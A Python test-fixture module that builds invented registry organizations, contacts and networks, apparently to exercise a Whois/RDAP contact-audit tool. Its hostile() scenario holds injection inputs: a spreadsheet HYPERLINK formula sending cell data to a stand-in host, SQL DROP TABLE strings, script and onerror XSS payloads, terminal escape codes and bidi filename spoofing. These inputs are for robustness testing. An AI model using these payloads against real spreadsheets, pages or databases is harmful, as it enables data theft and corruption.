"""Invented organizations. No person, mailbox, number or block here exists:
domains are reserved (RFC 2606), addresses and AS numbers are for documentation
(RFC 5737, 3849, 5398) or private, telephone numbers are 555-01xx.
"""

import random

from model import (Customer, Link, Model, Organization, Poc, Routing, autnum,
                   network)


def person(handle, given, surname, emails, **more):
    return Poc(handle, '%s %s' % (given, surname), emails, given, surname,
               **more)


def role(handle, name, emails, **more):
    return Poc(handle, name, emails, **more)


def healthy():
    """small and well kept: role mailboxes, one person as admin"""
    admin = person('DLAMI1-ARIN', 'Nomvula', 'Dlamini',
                   ['nomvula.dlamini@example.net'],
                   phones=[('voice', '+1-555-0120')],
                   registered='2019-06-11', changed='2026-03-02')
    tech = role('HOSTM8-ARIN', 'Hostmaster', ['hostmaster@example.net'],
                changed='2026-03-02')
    abuse = role('ABUSE40-ARIN', 'Abuse Desk', ['abuse@example.net'],
                 changed='2026-03-03')
    noc = role('NOC51-ARIN', 'Network Operations Center',
               ['noc@example.net'], changed='2026-03-03')
    org = Organization(
        'HLTHY-1', 'Healthy Harbour Internet',
        [Link(admin, ['administrative']), Link(tech, ['technical']),
         Link(abuse, ['abuse']), Link(noc, ['noc'])],
        remarks=['https://www.example.net/network'])
    return Model(
        ['HLTHY-1'], [org],
        [network('198.51.100.0/25', 'HEALTHY-NET', org),
         network('2001:db8:100::/40', 'HEALTHY-V6', org)],
        [autnum(64496, 'HEALTHY-AS', org)])


def demo():
    """the typical sins: people who left, private mailboxes, free text"""
    left = person(
        'OKAFO1-ARIN', 'Adaeze', 'Okafor', ['adaeze.okafor@example.com'],
        phones=[('voice', '+1-555-0101'), ('cell', '+1-555-0142')],
        validated='2021-11-08', registered='2014-09-03', changed='2019-03-14')
    noc = role(
        'NOC64-ARIN', 'Example Networks NOC', ['noc+arin@example.com'],
        phones=[('voice', '+1-555-0110'), ('fax', '+1-555-0111')],
        registered='2013-02-18', changed='2025-12-09',
        remarks=['Staffed around the clock.\r',
                 'Please quote the address and time in UTC.'])
    abuse = person(
        'CARVA3-ARIN', 'Mateus', 'Carvalho', ['mateus@example.com'],
        phones=[('voice', '+1-555-0104')],
        registered='2018-04-27', changed='2026-01-30')
    hostmaster = role(
        'HOSTM12-ARIN', 'Hostmaster',
        ['hostmaster@example.com', 'registry-notices@example.com'],
        registered='2012-10-01', changed='2025-11-20')
    engineering = role(
        'ENGIN5-ARIN', 'Network Engineering', ['thi.nguyen@example.com'],
        registered='2016-08-15', changed='2025-08-04')
    private = person(
        'PATEL9-ARIN', 'Ishaan', 'Patel',
        ['ishaan.patel.net@freemail.example'],
        phones=[('cell', '+1-555-0177')],
        registered='2017-01-10', changed='2025-10-02')
    contractor = person(
        'KOWAL2-ARIN', 'Zofia', 'Kowalska',
        ['zofia.kowalska@netbuild.example'],
        phones=[('voice', '+1-555-0163')],
        registered='2020-07-22', changed='2025-07-15')
    datacenter = role(
        'DCEAS4-ARIN', 'Datacenter Operations East', ['dc-east@example.com'],
        registered='2021-05-05', changed='2025-06-30')
    peering = role(
        'PEERI6-ARIN', 'Example Networks Peering', ['peering@example.com'],
        validated='2022-02-03', registered='2019-09-19', changed='2022-01-12')
    stale = person(
        'HAUGE1-ARIN', 'Ingrid', 'Haugen', ['ingrid.haugen@example.com'],
        validated=None, registered='2015-03-30', changed='2019-06-04')
    administration = role(
        'IPADM7-ARIN', 'IP Administration', ['IPAdmin@Example.COM'],
        registered='2012-10-01', changed='2026-02-11')

    org = Organization(
        'EXMPL-1', 'Example Networks',
        [Link(left, ['technical', 'administrative']),
         Link(administration, ['administrative']),
         Link(hostmaster, ['technical']),
         Link(engineering, ['technical']),
         Link(private, ['technical']),
         Link(abuse, ['abuse']),
         Link(noc, ['noc', 'technical']),
         Link(stale, ['dns'])],
        remarks=['Example Networks, Internet access in Anytown.\r',
                 'To report abuse: https://www.example.com/abuse or\r',
                 'report-abuse@example.com.\r', '',
                 'http://www.example.com/'],
        remark_addresses=['report-abuse@example.com'],
        registered='2012-10-01', changed='2025-11-20')
    bakery = Customer('C07654321', 'Bluebird Bakery', parent=org,
                      registered='2022-04-14', changed='2022-04-14')
    clinic = Customer('C07654399', 'Saguaro Clinic', parent=org,
                      registered='2023-02-02', changed='2023-02-02')
    gone = person(
        'SORIA3-ARIN', 'Camila', 'Soria', ['camila.soria@example.com'],
        validated='2020-06-30', registered='2011-04-18', changed='2018-05-02',
        company='Example Networks')
    still_answering = person(
        'WAKIM1-ARIN', 'Elias', 'Wakim', ['elias.wakim@example.com'],
        registered='2015-02-11', changed='2019-10-08',
        company='Example Networks')
    left_over = role(
        'HOSTI9-ARIN', 'Example Hosting Support', ['hosting@example.com'],
        validated='2023-03-27', registered='2013-09-12', changed='2013-09-12',
        company='Example Hosting')
    lent = person(
        'FALET2-ARIN', 'Sione', 'Faletau', ['sione.faletau@example.com'],
        phones=[('voice', '+1-555-0158')], registered='2021-08-24',
        changed='2025-08-20', company='Bluff County Schools')
    desk = role('NOC88-ARIN', 'Neighbour NOC', ['noc@neighbour.test'])
    chair = person('TAMAT1-ARIN', 'Sefina', 'Tamati',
                   ['sefina.tamati@neighbour.test'])
    neighbour = Organization(
        'NGHBR-7', 'Neighbour Telecom Cooperative',
        [Link(chair, ['administrative']), Link(desk, ['technical', 'abuse'])])
    dissolved = Organization(
        'EXHST-4', 'Example Hosting', [Link(left_over, ['administrative',
                                                        'technical'])],
        registered='2013-09-12', changed='2013-09-12')
    schools = Organization(
        'BLUFF-3', 'Bluff County Schools',
        [Link(role('ITDES7-ARIN', 'IT Desk', ['it@bluffcounty.test']),
              ['administrative', 'abuse']),
         Link(lent, ['technical'])])
    builders = Organization(
        'NETBL-2', 'Netbuild Contractors',
        [Link(contractor, ['administrative', 'technical'])])
    carrier = Organization(
        'UPLNK-5', 'Uplink Carrier',
        [Link(role('UPLIN5-ARIN', 'Carrier NOC', ['noc@uplink.test']),
              ['administrative', 'technical', 'abuse'])])

    networks = [
        network('192.0.2.0/24', 'EXAMPLE-NET-1', org, padded=True,
                registered='2012-10-03', changed='2016-05-11'),
        network('198.51.100.0/25', 'EXAMPLE-EAST', org, origins=[64500],
                links=[Link(datacenter, ['noc'])],
                registered='2014-01-16', changed='2021-05-06'),
        network('198.51.100.128/26', 'EXAMPLE-WEST', org,
                links=[Link(contractor, ['technical'])],
                registered='2014-01-16', changed='2020-07-23'),
        network('198.51.100.192/27', 'EXAMPLE-VOICE', org,
                remarks=['Voice platform. Questions about this block go to\r',
                         'Fatima El-Sayed <fatima.elsayed@example.com>'],
                remark_addresses=['fatima.elsayed@example.com'],
                registered='2015-11-02', changed='2018-02-26'),
        network('198.51.100.224/28', 'EXAMPLE-COLO', org,
                remarks=['Smart hands: omar.haddad at example dot com'],
                remark_addresses=['omar.haddad@example.com'],
                registered='2015-11-02', changed='2015-11-02'),
        network('203.0.113.0/26', 'EXAMPLE-ASSIGNED', org,
                type='DIRECT ASSIGNMENT',
                registered='2016-09-09', changed='2016-09-09'),
        network('203.0.113.64-203.0.113.111', 'EXAMPLE-LAB', org,
                links=[Link(contractor, ['technical', 'noc']),
                       Link(noc, ['noc'])],
                registered='2016-09-09', changed='2020-07-23'),
        network('203.0.113.128/26', 'EXAMPLE-UPLINK', org,
                type='REASSIGNMENT', parent='NET-203-0-113-0-2',
                registered='2019-12-03', changed='2019-12-03'),
        network('2001:db8::/36', 'EXAMPLE-V6', org, origins=[64500],
                registered='2013-06-06', changed='2017-09-21'),
        network('2001:db8:4000::/36', 'EXAMPLE-V6-WEST', org,
                links=[Link(datacenter, ['technical'])],
                registered='2021-05-06', changed='2021-05-06'),
        network('192.0.2.64/28', 'BLUEBIRD-BAKERY', bakery,
                type='REASSIGNMENT', parent='NET-192-0-2-0-1',
                remarks=['oven@bluebird.test'],
                registered='2022-04-14', changed='2022-04-14'),
        network('198.51.100.224/28', 'SAGUARO-CLINIC', clinic,
                type='REASSIGNMENT', parent='NET-198-51-100-224-1',
                handle='NET-198-51-100-224-2',
                registered='2023-02-02', changed='2023-02-02'),
        network('203.0.113.192/27', 'NEIGHBOUR-NET', neighbour,
                links=[Link(contractor, ['technical'])],
                type='REASSIGNMENT', parent='NET-203-0-113-0-2',
                remarks=['Call desk@neighbour.test first.']),
        network('203.0.113.128/25', 'UPLINK-BLOCK', carrier,
                handle='NET-203-0-113-0-2'),
        network('203.0.113.112/29', 'BLUFF-SCHOOLS', schools,
                type='DIRECT ASSIGNMENT'),
    ]
    autnums = [
        autnum(64500, 'EXAMPLE-AS', org, links=[Link(peering, ['routing'])],
               remarks=['NOC 24x7: noc@example.com'],
               remark_addresses=['noc@example.com'],
               registered='2013-01-24', changed='2022-01-13'),
        autnum(64501, 'EXAMPLE-AS-LAB', org,
               registered='2016-09-09', changed='2016-09-09'),
        autnum(65540, 'EXAMPLE-AS-RANGE', org, last=65541,
               registered='2018-03-01', changed='2018-03-01'),
        autnum(64510, 'NEIGHBOUR-AS', neighbour,
               links=[Link(contractor, ['noc'])]),
    ]
    return Model(
        ['EXMPL-1'],
        [org, neighbour, dissolved, schools, builders, carrier], networks,
        autnums, loose=[gone, still_answering], routing=_demo_routing(),
        domains=['example.com'],
        options={'with': ('rws', 'stats', 'irr'), 'dns': {
            'MX example.com': ['10 mail.example.com.'],
            'NS example.com': ['ns1.example.com.', 'ns2.example.com.'],
            'A mail.example.com': ['192.0.2.25'],
            'AAAA mail.example.com': [],
            'MX netbuild.example': 'NXDOMAIN',
            'NS netbuild.example': 'NXDOMAIN',
            'MX freemail.example': ['0 .'],
            'NS freemail.example': ['ns1.freemail.example.']}})


def lapsed():
    """domains that lapsed, take no mail, or are a former brand's"""
    admin = role('HOSTM31-ARIN', 'Hostmaster', ['hostmaster@example.net'])
    gone = role('NOC71-ARIN', 'Network Operations', ['noc@oldbrand.example'])
    null = role('ABUSE72-ARIN', 'Abuse Desk', ['abuse@nomail.example'])
    hostless = role('PEERI73-ARIN', 'Peering Desk',
                    ['peering@hostless.example'])
    below = role('IPADM74-ARIN', 'IP Administration',
                 ['ipadmin@mail.below.example'])
    implicit = role('DNSAD75-ARIN', 'DNS Desk', ['dns@implicit.example'],
                    remarks=['Formerly dns@gone-in-text.example'],
                    remark_addresses=['dns@gone-in-text.example'])
    silent = role('ROUTI76-ARIN', 'Routing Desk', ['routing@silent.example'])
    former = person('OYELA7-ARIN', 'Folake', 'Oyelaran',
                    ['folake.oyelaran@former.example'], changed='2014-02-20')
    org = Organization(
        'LAPSD-1', 'Lapsed Networks',
        [Link(admin, ['administrative']), Link(gone, ['technical', 'noc']),
         Link(null, ['abuse']), Link(hostless, ['noc']),
         Link(below, ['technical']), Link(implicit, ['dns']),
         Link(silent, ['routing'])])
    return Model(
        ['LAPSD-1'], [org], [network('192.0.2.0/26', 'LAPSED-NET', org)],
        [autnum(64503, 'LAPSED-AS', org)], loose=[former],
        domains=['former.example'],
        options={'with': ('rws',), 'dns': {
            'TXT _whoexposed.former.example': ['"whoexposed=lapsd-1"'],
            'MX example.net': ['10 mail.example.net.'],
            'NS example.net': ['ns.example.net.'],
            'A mail.example.net': ['192.0.2.25'],
            'AAAA mail.example.net': [],
            'MX oldbrand.example': 'NXDOMAIN',
            'NS oldbrand.example': 'NXDOMAIN',
            'MX nomail.example': ['0 .'],
            'NS nomail.example': ['ns.example.net.'],
            'MX hostless.example': ['10 mx1.hostless.example.',
                                    '20 mx.oldbrand.example.'],
            'NS hostless.example': ['ns.example.net.'],
            'A mx1.hostless.example': [],
            'AAAA mx1.hostless.example': [],
            'A mx.oldbrand.example': 'NXDOMAIN',
            'AAAA mx.oldbrand.example': 'NXDOMAIN',
            'MX mail.below.example': 'NXDOMAIN',
            'NS below.example': ['ns.example.net.'],
            'MX implicit.example': [],
            'NS implicit.example': ['ns.example.net.'],
            'A implicit.example': [],
            'AAAA implicit.example': ['2001:db8::25'],
            'MX silent.example': 'TIMEOUT',
            'NS silent.example': 'SERVFAIL',
            'MX former.example': [],
            'NS former.example': [],
            'A former.example': ['192.0.2.80'],
            'AAAA former.example': []}})


def _demo_routing():
    """Old objects with the addresses that were usual in them."""
    return [
        Routing('MNT-EXMPL-1', [
            ('mntner', 'MNT-EXMPL-1'), ('descr', 'Example Networks'),
            ('admin-c', 'IPADM7-ARIN'), ('tech-c', 'HOSTM12-ARIN'),
            ('upd-to', 'Routing-Updates@Example.com'),
            ('mnt-nfy', 'adaeze.okafor@example.com'),
            ('auth', 'PGPKEY-00000000'), ('mnt-by', 'MNT-EXMPL-1'),
            ('changed', 'lars.holm@example.com 20140916'),
            ('source', 'ARIN')],
            ['routing-updates@example.com', 'adaeze.okafor@example.com',
             'lars.holm@example.com']),
        Routing('MNT-EXMPL-1', [
            ('route', '192.0.2.0/24'), ('descr', 'Example Networks\nAnytown'),
            ('origin', 'AS64500'), ('mnt-by', 'MNT-EXMPL-1'),
            ('remarks', 'Questions about this route go to\n'
             'the peering desk, peering@example.com'),
            ('changed', 'lars.holm@example.com 20140916'),
            ('source', 'ARIN')],
            ['peering@example.com', 'lars.holm@example.com']),
        Routing('MNT-EXMPL-1', [
            ('route', '198.51.100.0/25'),
            ('descr', 'Example Networks, Montréal exchange'),
            ('origin', 'AS64500'), ('admin-c', 'IPADM7-ARIN'),
            ('tech-c', 'HOSTM12-ARIN'), ('mnt-by', 'MNT-EXMPL-1'),
            ('created', '2021-05-06T14:20:11Z'),
            ('last-modified', '2021-05-06T14:20:11Z'), ('source', 'ARIN')]),
        Routing('MNT-EXMPL-1', [
            ('route6', '2001:db8::/36'), ('descr', 'Example Networks'),
            ('origin', 'AS64500'), ('notify', 'noc@example.com'),
            ('mnt-by', 'MNT-EXMPL-1'), ('source', 'ARIN')],
            ['noc@example.com']),
        Routing('MNT-EXMPL-1', [
            ('aut-num', 'AS64500'), ('as-name', 'EXAMPLE-AS'),
            ('descr', 'Example Networks'),
            ('import', 'from AS64510 accept ANY'),
            ('export', 'to AS64510 announce AS-EXAMPLE'),
            ('remarks', 'peering: peering[at]example.com'),
            ('mnt-by', 'MNT-EXMPL-1'), ('source', 'ARIN')],
            ['peering@example.com']),
        Routing('MNT-EXMPL-1', [
            ('as-set', 'AS-EXAMPLE'), ('descr', 'Réseau d’exemple'),
            ('members', 'AS64500, AS64501'), ('mnt-by', 'MNT-EXMPL-1'),
            ('source', 'ARIN')], encoding='utf-8'),
        Routing('MNT-NGHBR-7', [
            ('route', '203.0.113.192/27'), ('descr', 'MNT-EXMPL-1 is not us'),
            ('origin', 'AS64510'), ('mnt-by', 'MNT-NGHBR-7'),
            ('changed', 'desk@neighbour.test 20190101'),
            ('source', 'ARIN')])]


def differing():
    """Whois-RWS and RDAP disagree: addresses, and what only one knows"""
    admin = role('ADMIN3-ARIN', 'Administration', ['admin@example.net'])
    moved = role('TECHN4-ARIN', 'Technical Desk', ['tech-new@example.net'],
                 rws_emails=['tech-old@example.net'])
    fewer = role('ABUSE5-ARIN', 'Abuse Desk',
                 ['abuse@example.net', 'abuse-copy@example.net'],
                 rws_emails=['Abuse@Example.NET'])
    added = person('OYELA1-ARIN', 'Folake', 'Oyelaran',
                   ['folake.oyelaran@example.net'], only='rws')
    removed = person('TANGI2-ARIN', 'Malia', 'Tangi',
                     ['malia.tangi@example.net'], only='rdap')
    beyond = role('SITES6-ARIN', 'Site Contact', ['site@example.net'])
    org = Organization(
        'DIFFR-1', 'Differing Networks',
        [Link(admin, ['administrative']), Link(moved, ['technical']),
         Link(fewer, ['abuse']), Link(added, ['noc']),
         Link(removed, ['noc'])])
    return Model(
        ['DIFFR-1'], [org],
        [network('192.0.2.0/25', 'DIFFERING-1', org),
         network('192.0.2.128/25', 'DIFFERING-2', org, only='rws',
                 links=[Link(beyond, ['technical'])])],
        [autnum(64502, 'DIFFERING-AS', org)], domains=['example.net'])


def hostile():
    """strings of every kind that break terminals, tables and pages"""
    bell = role('BELLS1-ARIN', 'NOC \x1b]0;owned\x07\x1b[2J\x1b[31m red',
                [('noc@example.com\n', 'noc@example.com'),
                 (' \tNOC@EXAMPLE.com ', 'noc@example.com')])
    formula = role(
        'FORMU2-ARIN', '=HYPERLINK("http://collect.test/?"&A1;"open")',
        ['+1@example.com', '=cmd@example.com', '-2@example.com',
         '@SUM(A1:A9)', ('\t=tab@example.com', '=tab@example.com'),
         '%n%s%x@example.com'],
        phones=[('voice', '+1-555-0199 =1+1')])
    quotes = role(
        'QUOTE3-ARIN', "'; DROP TABLE records; -- \"Bobby\", O'Brien\\",
        ["o'brien@example.com", "x'); DROP TABLE sightings;--@example.com",
         '"quoted local"@example.com', '<b>bold</b>@example.com',
         '<script>alert(1)</script>@example.com'])
    idn = person(
        'BUCHE4-ARIN', 'Jürgen', 'Müller-Žižek',
        [('jürgen@bücher.example', 'jürgen@xn--bcher-kva.example'),
         ('jürgen@XN--BCHER-KVA.example', 'jürgen@xn--bcher-kva.example'),
         ('почта@пример.test', 'почта@xn--e1afmkfd.test')])
    malformed = role(
        'MALFO5-ARIN', 'Malformed',
        ['no-at-sign', 'two@at@example.com', 'a..b@example.com',
         '.dot@example.com', 'user@localhost', 'user@[192.0.2.1]',
         'user@192.0.2.1', 'mailto:desk@example.com', '@', 'x@',
         'l' * 65 + '@example.com', 'x@' + 'd' * 64 + '.example'],
        validated='2021-11-08')
    rtl = person('COHEN6-ARIN', 'נועה', 'כהן', ['noa@example.com'])
    arabic = person('HADDA7-ARIN', 'ليلى', 'حدّاد',
                    [('ليلى@example.com', 'ليلى@example.com')])
    bidi = role('BIDI8-ARIN', 'invoice\u202egpj.exe\u202c \u2066x\u2069 '
                'zero\u200bwidth\ufeff\u200d',
                [('ad\u202emin@example.com', 'ad\u202emin@example.com'),
                 ('ze\u200bro@example.com', 'ze\u200bro@example.com')])
    c1 = role('C1CSI9-ARIN', 'C1 \x9b31m \x85 \x7f \u2028 line\nbreak\r\n',
              ['c1\x9b31m@example.com', 'two\nlines@example.com'])
    astral = role('ASTRA1-ARIN', '𝕹𝖊𝖙𝖜𝖔𝖗𝖐 🦑 𐍈', ['🦑@example.com'])
    long = role('LONGN2-ARIN', 'Long ' * 800 + 'Name',
                ['long.name.' + 'x' * 54 + '@' + '.'.join(
                    ['label' * 12] * 3) + '.example'])
    met = role('BARED3-ARIN', 'Met by handle only', ['bare@example.com'])

    org = Organization(
        'HOSTL-1', 'Hostile "Harbour" <script>alert(1)</script> & Sons\u202e',
        [Link(bell, ['technical']), Link(formula, ['administrative']),
         Link(quotes, ['technical', 'noc']), Link(idn, ['administrative']),
         Link(malformed, ['technical']), Link(rtl, ['noc']),
         Link(arabic, ['dns']), Link(bidi, ['routing']), Link(c1, ['noc']),
         Link(astral, ['abuse']), Link(long, ['technical'])],
        remarks=['mailto:press@example.com?subject=%n%s%s%n\r',
                 '<a href="mailto:html@example.com">html</a>\r',
                 'ESC \x1b[1;31mred\x1b[0m, C1 \x9b2J, bell \x07\r',
                 '=1+1\t"quoted"\t\'; DROP TABLE findings; --\r',
                 '(paren@example.com), comma@example.com;semi@example.com\r',
                 'a@b@c@example.com and @twitter and x@localhost'],
        remark_addresses=['press@example.com', 'html@example.com',
                          'paren@example.com', 'comma@example.com',
                          'semi@example.com'])
    stranger = Organization(
        'STRNG-1', 'Strange \x1b[2J Stranger',
        [Link(role('STRAN1-ARIN', 'Stranger', ['stranger@evil.test']),
              ['technical'])])
    customer = Customer('C09999999', '=SUM(A1:A9) </td>', parent=org)
    networks = [
        network('192.0.2.0/25', '"><img src=x onerror=alert(1)>', org,
                links=[Link(met, ['technical'], bare=True)]),
        network('192.0.2.128/25', 'NAME\nWITH\tBREAKS\r\n\x1b[5m', org,
                remarks=['\u202eright-to-left override \u2066isolate',
                         '-- bidi@example.com\u202e'],
                remark_addresses=['bidi@example.com']),
        network('2001:db8:dead::/48', 'noc-name@example.com', org,
                name_addresses=['noc-name@example.com']),
        network('203.0.113.0/28', '@SUM(1+1)*cmd|calc', org),
        network('192.0.2.32/28', 'CUSTOMER', customer, type='REASSIGNMENT',
                parent='NET-192-0-2-0-1'),
        network('198.51.100.0/28', 'STRANGER', stranger,
                links=[Link(rtl, ['noc'])]),
    ]
    return Model(['HOSTL-1'], [org, stranger], networks,
                 [autnum(64505, "'; DELETE FROM runs; --", org),
                  autnum(65551, '\u200b\u200e\u061c%s%n', org)])


def siblings():
    """two organizations that share a POC, and a third of the same domain"""
    shared = role('HOSTM21-ARIN', 'Sibling Hostmaster',
                  ['hostmaster@example.org'],
                  remarks=['Escalation: oncall@example.org'],
                  remark_addresses=['oncall@example.org'])
    abuse = role('ABUSE22-ARIN', 'Abuse', ['abuse@example.org'])
    alpha = person('REYES1-ARIN', 'Ximena', 'Reyes',
                   ['ximena.reyes@example.org'], changed='2024-12-12')
    beta = person('ABDUL2-ARIN', 'Yusuf', 'Abdullahi',
                  ['yusuf.abdullahi@example.org'], validated='2025-03-09',
                  changed='2023-08-01')
    third = role('OPSDE3-ARIN', 'Gamma Operations', ['ops@example.org'])
    first = Organization('SIBLA-1', 'Sibling Alpha Networks',
                         [Link(alpha, ['administrative']),
                          Link(shared, ['technical', 'noc']),
                          Link(abuse, ['abuse'])])
    second = Organization('SIBLB-1', 'Sibling Beta Hosting',
                          [Link(beta, ['administrative', 'abuse']),
                           Link(shared, ['technical'])])
    gamma = Organization('SIBLC-1', 'Sibling Gamma',
                         [Link(third, ['administrative', 'technical']),
                          Link(abuse, ['abuse'])])
    return Model(
        ['SIBLA-1', 'SIBLB-1'], [first, second, gamma],
        [network('192.0.2.0/26', 'ALPHA-1', first),
         network('2001:db8:a::/48', 'ALPHA-V6', first),
         network('198.51.100.0/26', 'BETA-1', second,
                 links=[Link(shared, ['noc'])]),
         network('203.0.113.0/26', 'GAMMA-1', gamma)],
        [autnum(64497, 'ALPHA-AS', first), autnum(64498, 'BETA-AS', second)])


def lender():
    """one of its contacts stands on a customer's network only"""
    noc = role('NOC70-ARIN', 'Lender NOC', ['noc@example.org'])
    lent = person('VARGA8-ARIN', 'Imre', 'Varga', ['imre.varga@example.org'])
    org = Organization('LENDR-1', 'Lender Networks',
                       [Link(noc, ['administrative', 'technical', 'abuse'])])
    shop = Customer('C07654377', 'Corner Shop', parent=org)
    return Model(
        ['LENDR-1'], [org],
        [network('192.0.2.0/24', 'LENDER-NET', org),
         network('192.0.2.64/28', 'CORNER-SHOP', shop, type='REASSIGNMENT',
                 parent='NET-192-0-2-0-1', links=[Link(lent, ['technical'])])],
        domains=['example.org'])


def crowded():
    """who left: so many that the search for them is cut, with like handles"""
    noc = role('NOC71-ARIN', 'Crowded NOC', ['noc@example.org'])
    names = ['Abara', 'Bello', 'Cruz', 'Duarte', 'Eze', 'Farah', 'Gomez',
             'Haile', 'Ivanov', 'Jansen', 'Kaya', 'Lopez']
    left = [person('STAFF1%02d-ARIN' % i, 'Noa', name,
                   ['noa.%s@example.org' % name.lower()], changed='2018-05-02')
            for i, name in enumerate(names)]
    nameless = role('STAFF199-ARIN', '(unnamed)', ['desk@example.org'])
    other = person('VISIT4-ARIN', 'Ana', 'Moreno', ['ana.moreno@example.org'])
    org = Organization('CROWD-1', 'Crowded Networks',
                       [Link(noc, ['administrative', 'technical', 'abuse'])])
    return Model(
        ['CROWD-1'], [org], [network('192.0.2.0/24', 'CROWDED-NET', org)],
        options={'cap': 6}, loose=[*left, nameless, other],
        domains=['example.org'])


def bare():
    """no networks, no AS numbers, no abuse contact"""
    admin = person('SILVA1-ARIN', 'Iracema', 'Silva',
                   ['iracema.silva@example.net'], validated=None,
                   changed='2020-02-02')
    tech = role('TECHS1-ARIN', 'Technical Contact', ['tech@example.net'])
    return Model(['BARE-1'], [Organization(
        'BARE-1', 'Bare Holdings',
        [Link(admin, ['administrative']), Link(tech, ['technical'])])])


def neglected():
    """one person for everything, unvalidated; space that others reassigned"""
    one = person('TAMBE1-ARIN', 'Idris', 'Tambe', ['idris.tambe@neglect.test'],
                 phones=[('cell', '+1-555-0177')], validated='2022-03-04',
                 registered='2012-05-06', changed='2016-07-08')
    desk = role('DESKN1-ARIN', 'Neglect Desk', ['noc@neglect.test'],
                validated='2023-01-09', changed='2017-01-02')
    site = role('SITEN1-ARIN', 'Neglect Site', ['site@neglect.test'],
                validated='2023-01-09', changed='2018-01-02')
    org = Organization('NGLCT-1', 'Neglect Networks',
                       [Link(one, ['administrative', 'technical', 'abuse']),
                        Link(desk, ['noc'])])
    other = Organization('NGLCT-9', 'Neglect Alumni Society',
                         [Link(desk, ['administrative', 'technical',
                                      'abuse'])])
    return Model(
        ['NGLCT-1'], [org, other],
        [network('198.51.100.128/26', 'NEGLECT-NET', org),
         network('203.0.113.64/28', 'NEGLECT-SITE', org, type='REASSIGNMENT',
                 parent='NET-203-0-113-0-1', links=[Link(site, ['technical'])],
                 remarks=['Reports to idris.tambe@neglect.test, please.'],
                 remark_addresses=['idris.tambe@neglect.test']),
         network('192.0.2.192/26', 'ALUMNI-NET', other)],
        domains=['neglect.test'], options={'with': ('rws',)})


def absent():
    """an organization that the registry does not have"""
    return Model(['ABSNT-1'], [])


def cut():
    """300 networks: every list is cut at 256, with a notice"""
    desk = role('DESKS1-ARIN', 'Network Desk', ['noc@example.com'])
    hidden = role('HIDDE1-ARIN', 'Behind the cut', ['hidden@example.com'])
    org = Organization('CUTTY-1', 'Cutty Networks',
                       [Link(desk, ['administrative', 'technical', 'abuse'])])
    networks = [network('10.%d.%d.0/24' % divmod(i, 256), 'CUTTY-%d' % i, org)
                for i in range(300)]
    networks[280].links.append(Link(hidden, ['technical']))
    return Model(['CUTTY-1'], [org], networks,
                 [autnum(4200000000, 'CUTTY-AS', org)])


GIVEN = ('Adwoa Aiko Amara Anahera Ayodele Bao Dilnoza Eun-ji Farid Giulia '
         'Hana Iker Ioana Jamila Kwame Leilani Mehmet Nayeli Oksana Priya '
         'Rangi Sanna Tariq Uchenna Wen Yara Zsuzsanna').split()
SURNAMES = ('Achebe Bautista Castellanos Demir Eriksen Farooqi Gutierrez '
            'Horvath Ito Jung Kamau Lindqvist Mbeki Nakamura Ortiz Popescu '
            'Quispe Rossi Shevchenko Tran Usman Vasquez Whetu Xiong Yilmaz '
            'Zaman').split()
WORDS = ('noc abuse hostmaster ipadmin peering routing dns support security '
         'registry').split()


def generated(networks, autnums, pocs, seed=1, *words):
    """Of any size. One POC in ten serves single networks only; the others
    serve the organization, some of them single networks as well; one more in
    twenty serves nothing any more. A customer and a neighbour, who do not
    count, where there is room for them.

    Blocks are contiguous, or "scattered": one in three of a row in which all
    others are strangers'. "provider": a tenth more networks that a provider
    reassigned. "below": reassignments below a quarter of the own blocks, to
    customers, to the organization itself, and to a stranger by turns. The last
    network of both kinds has a contact of its own, found nowhere else.
    """
    chance = random.Random(seed)
    alone = pocs // 10
    people = [_generated_poc(i, chance) for i in range(pocs)]
    everywhere, single = people[:pocs - alone], people[pocs - alone:]
    org = Organization('LARGE-1', 'Large Example Networks', [
        Link(poc, _generated_roles(i, chance))
        for i, poc in enumerate(everywhere)])
    slots, others = range(networks), []
    if 'scattered' in words:
        slots = sorted(random.Random(seed).sample(range(3 * networks),
                                                  networks))
        others = sorted(set(range(3 * networks)) - set(slots))
    nets = [_generated_network(i, org, slot) for i, slot in enumerate(slots)]
    for i, poc in enumerate(single):
        nets[i * networks // alone].links.append(Link(poc, ['technical']))
    for net in nets[::5]:
        if everywhere:
            net.links.append(Link(chance.choice(everywhere),
                                  ['noc', 'abuse']))
    auts = [autnum(4200000000 + 10 * i, 'LARGE-AS-%d' % i, org)
            for i in range(autnums)]
    organizations = [org]
    own = list(nets)
    if 2 <= networks < 250 and not words:
        organizations.append(_strangers(org, nets, everywhere[0]))
    organizations += _neighbours(others, nets)
    if 'provider' in words:
        organizations.append(_provider(org, networks // 10 + 1, nets))
    if 'below' in words:
        organizations.append(_below(org, own, nets))
    loose = [_generated_poc(pocs + i, chance) for i in range(pocs // 20)]
    return Model(['LARGE-1'], organizations, nets, auts, loose=loose,
                 domains=['example.com'])


def _generated_poc(i, chance):
    validated = chance.choice([True, True, True, None, '2023-05-%02d' %
                               chance.randint(1, 28)])
    changed = '%d-%02d-%02d' % (chance.randint(2015, 2025),
                                chance.randint(1, 12), chance.randint(1, 28))
    dates = {'validated': validated, 'registered': '2012-06-01',
             'changed': changed}
    if i % 3 == 0:
        word = WORDS[i // 3 % len(WORDS)]
        return role('%s%d-ARIN' % (word[:5].upper(), i + 1),
                    '%s Desk %d' % (word.title(), i + 1),
                    ['%s-%d@example.com' % (word, i + 1)], **dates)
    given, surname = chance.choice(GIVEN), chance.choice(SURNAMES)
    return person('%s%d-ARIN' % (surname[:5].upper(), i + 1), given, surname,
                  ['%s.%s%d@example.com' % (given.lower(), surname.lower(),
                                            i + 1)], **dates)


def _generated_roles(i, chance):
    mandatory = ['administrative', 'technical', 'abuse']
    if i < len(mandatory):
        return [mandatory[i]]
    return chance.choice([['technical'], ['noc'], ['technical', 'noc'],
                          ['administrative'], ['routing'], ['dns']])


def _generated_network(i, org, slot, name='LARGE'):
    if slot % 10 == 9:
        return network('fd00:0:%x::/48' % slot, '%s-V6-%d' % (name, i), org)
    return network('10.%d.%d.0/24' % divmod(slot, 256), '%s-%d' % (name, i),
                   org)


def _neighbours(slots, nets):
    """Strangers between the own blocks, of eight networks each."""
    organizations = []
    for i, slot in enumerate(slots):
        if i % 8 == 0:
            number = i // 8 + 1
            desk = role('NEAR%d-ARIN' % number, 'Near Desk %d' % number,
                        ['desk-%d@near.test' % number])
            organizations.append(Organization(
                'NEAR-%d' % number, 'Near Networks %d' % number,
                [Link(desk, ['administrative', 'technical', 'abuse'])]))
        nets.append(_generated_network(i, organizations[-1], slot, 'NEAR'))
    return organizations


def _provider(org, count, nets):
    provider = Organization('PROVI-1', 'Provider Networks', [
